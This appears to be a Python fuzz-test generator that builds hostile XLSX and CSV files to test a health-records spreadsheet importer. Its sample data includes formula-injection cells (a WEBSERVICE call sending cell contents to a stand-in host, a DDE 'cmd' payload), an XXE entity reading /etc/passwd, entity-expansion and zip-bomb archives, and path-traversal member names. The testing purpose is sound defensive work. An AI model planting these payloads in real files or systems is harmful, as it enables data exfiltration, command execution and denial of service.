"""Hostile spreadsheets from a seed: workbooks whose parts were tampered with, CSV of bytes that do not fit together."""

from __future__ import annotations

import io
import random
import re
import warnings
import zipfile
from collections.abc import Callable
from functools import cache
from typing import Any, NamedTuple

from tests.fuzz.inputs import MOBILES, RESIDENTS
from tests.unit.publish.template_sheets import a_workbook

HEADINGS = ("身份证号", "体检日期", "体重", "身长", "结论", "备注")
CELLS: tuple[Any, ...] = (
    RESIDENTS[0], RESIDENTS[1], MOBILES[0], "2026-03-02", "2026年3月2日", 46083, 46083.5, -1, 1e300,
    0.1 + 0.2, True, None, "",
    " ", "=1+1", "=WEBSERVICE(\"http://x/\"&A1)", "@SUM(A1)", "+cmd|' /C calc'!A0", "9.6kg",
    "九点六", "x" * 32_000, "\u202e1",
    "１２", "#N/A", "9,6", "1e3", "2026-02-30", "0000-00-00", "99999-01-01", f"电话{MOBILES[1]}",
    f"{RESIDENTS[0]}\n", "\ufeff", "'",
)  # fmt: skip
SHEET, BOOK, RELATIONS = "xl/worksheets/sheet1.xml", "xl/workbook.xml", "xl/_rels/workbook.xml.rels"
LAUGHS = b'<!DOCTYPE w [<!ENTITY a "haha"><!ENTITY b "&a;&a;&a;&a;"><!ENTITY c SYSTEM "file:///etc/passwd">]>'
TOKENS = (
    b"XFD1048576", b"A0", b"AAAA1", b"ZZZ9999999", b"-1", b"A1:XFD1048576", b"1e999", b"NaN",
    b"inf", b"4294967296", b"",
    b"&b;&c;", b"&#0;", b"&#x110000;", b"<![CDATA[9.6]]>", b"s", b"str", b"e", b"b", b"d",
    b"inlineStr", b"n", b"0", b"99999",
    b"<f>WEBSERVICE(A1)</f>", b"<f t=\"shared\" si=\"0\" ref=\"A1:XFD1\"/>",
    b"<f t=\"array\" ref=\"A1:A1048576\">1</f>",
    b"<a>" * 3_000, b"<c r=\"C2\"/>", b"</sheetData><sheetData>", b"<is><t>x</t></is>", b"\xff",
    b"\x00", b"<!-- -->", b"<?x?>",
    b"http://example.invalid/x.xml", b"../../../../etc/passwd", b"/xl/worksheets/sheet1.xml",
    b"9" * 5_000, RESIDENTS[0].encode(),
)  # fmt: skip
ATTRIBUTE = re.compile(rb'(?<==")[^"]*(?=")|(?<=>)[^<>]+(?=<)|<[^>]{1,60}>')


class HostileSheet(NamedTuple):
    """A file as somebody gives it to be imported."""

    filename: str
    content: bytes


@cache
def _book(seed: int) -> bytes:
    rng = random.Random(seed)
    rows = [[rng.choice(CELLS) for _ in HEADINGS] for _ in range(3)]
    good = [RESIDENTS[0], "2026-03-02", 9.6, 75.2, "发育正常", ""]
    return a_workbook(list(HEADINGS), good, *rows)


def tampered(rng: random.Random) -> HostileSheet:
    """Some texts of some part are others."""
    parts = _parts(_book(rng.randrange(30)))
    for _ in range(rng.choice((1, 1, 2, 5))):
        name = rng.choice((SHEET, SHEET, SHEET, rng.choice(list(parts))))
        places = list(ATTRIBUTE.finditer(parts[name]))
        if places:
            at, token = rng.choice(places), rng.choice(TOKENS)
            parts[name] = parts[name][: at.start()] + token + parts[name][at.end() :]
    return HostileSheet("sheet.xlsx", _packed(list(parts.items())))


def rearranged(rng: random.Random) -> HostileSheet:
    """Parts that are not there, or twice, or of something else, or far larger than their archive."""
    parts = list(_parts(_book(rng.randrange(30))).items())
    name, part = rng.choice(parts)
    changes: tuple[Callable[[], list[tuple[str, bytes]]], ...] = (
        lambda: [p for p in parts if p[0] != name],
        lambda: [*parts, (name, part)],
        lambda: [(n, b"" if n == name else p) for n, p in parts],
        lambda: [(n, bytes(8 << 20) if n == name else p) for n, p in parts],
        lambda: [(n, LAUGHS + p if n == name else p) for n, p in parts],
        lambda: [*parts, ("xl/media/bomb.bin", bytes(30 << 20))],
        lambda: [*parts, *((f"xl/{n}.xml", b"<x/>") for n in range(2_500))],
        lambda: [*parts, ("../../evil.xml", b"<x/>"), ("/etc/passwd", b"x"), ("xl\\x.xml", b"<x/>")],
        lambda: [(n.upper(), p) for n, p in parts],
        lambda: [(n, p.decode().encode("utf-16") if n == name else p) for n, p in parts],
        lambda: [(n, dict(parts)[BOOK] if n == name else p) for n, p in parts],
        lambda: [(n, b"<a>" * 20_000 + b"</a>" * 20_000 if n == name else p) for n, p in parts],
    )
    return HostileSheet(
        rng.choice(("sheet.xlsx", "sheet.xlsm", "a/b\\c.xlsx", "SHEET.XLSX")), _packed(rng.choice(changes)())
    )


def broken(rng: random.Random) -> HostileSheet:
    """An archive with other bytes in it."""
    content = bytearray(_book(rng.randrange(30)))
    for _ in range(rng.choice((1, 3, 30))):
        content[rng.randrange(len(content))] = rng.randrange(256)
    cut = rng.choice((len(content), rng.randrange(len(content))))
    head = rng.choice((b"", b"", b"\xd0\xcf\x11\xe0", b"PK\x03\x04", rng.randbytes(30)))
    return HostileSheet(
        rng.choice(("sheet.xlsx", "sheet.xlsx", "a.csv", "a.xls", "a", "", ".xlsx")), head + bytes(content[:cut])
    )


def comma_separated(rng: random.Random) -> HostileSheet:
    """Rows of whatever cells, in encodings that change on the way, with quotes that do not close."""
    delimiter = rng.choice((",", ",", ";", "\t", "|"))
    lines = [delimiter.join(HEADINGS)]
    for _ in range(rng.randint(1, 5)):
        lines.append(delimiter.join(_cell(rng) for _ in range(rng.choice((6, 6, 6, 2, 500)))))
    ending = rng.choice(("\r\n", "\n", "\r", "\u2028"))
    raw = ending.encode().join(line.encode(rng.choice(("utf-8", "utf-8", "utf-8", "gbk")), "replace") for line in lines)
    whole = rng.choice((
        lambda: raw, lambda: raw, lambda: raw, lambda: b"\xef\xbb\xbf" + raw,
        lambda: raw.decode("utf-8", "replace").encode("utf-16"), lambda: raw.replace(b"2026", b"20\x0026"),
        lambda: raw[: rng.randrange(len(raw))], lambda: raw + b'"', lambda: raw + b"\x1a" + rng.randbytes(50),
    lambda: raw + b"\n" + b"x" * (1 << 20), lambda: raw + b'\n"' + b"x," * (1 << 19) + b'"',
    lambda: b"," * 1_000_000,
        lambda: raw + ending.encode() * 50_000,
    ))()  # fmt: skip
    return HostileSheet(rng.choice(("a.csv", "a.csv", "a.CSV", "a.txt")), whole)


def _cell(rng: random.Random) -> str:
    text = str(rng.choice(CELLS))[:300]
    return rng.choice((text, text, f'"{text}"', f'"{text}', f'{text}"', f'"{text}""x"', "\x00" + text))


def _parts(content: bytes) -> dict[str, bytes]:
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


def _packed(parts: list[tuple[str, bytes]]) -> bytes:
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w", zipfile.ZIP_DEFLATED) as archive, warnings.catch_warnings():
        warnings.simplefilter("ignore")  # a part twice is meant
        for name, part in parts:
            archive.writestr(name, part)
    return made.getvalue()


SHEETS: dict[str, Callable[[random.Random], HostileSheet]] = {
    made.__name__: made for made in (tampered, rearranged, broken, comma_separated)
}
